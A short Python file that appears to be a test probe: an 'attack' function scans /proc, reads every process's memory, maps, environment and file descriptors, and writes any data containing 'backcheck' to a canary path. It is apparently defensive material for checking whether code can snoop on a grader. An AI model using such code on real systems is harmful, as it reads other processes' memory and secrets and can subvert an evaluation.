"""Reads the memory and descriptors of every process."""

from pathlib import Path


def attack(array):
    for process in Path("/proc").glob("[0-9]*"):
        for name in ("mem", "maps", "environ", "cmdline", "fd/0", "fd/3"):
            try:
                data = (process / name).read_bytes()
            except OSError:
                continue
            if b"backcheck" in data and name != "cmdline":
                Path("@CANARY@/proc").write_bytes(data)
    return array
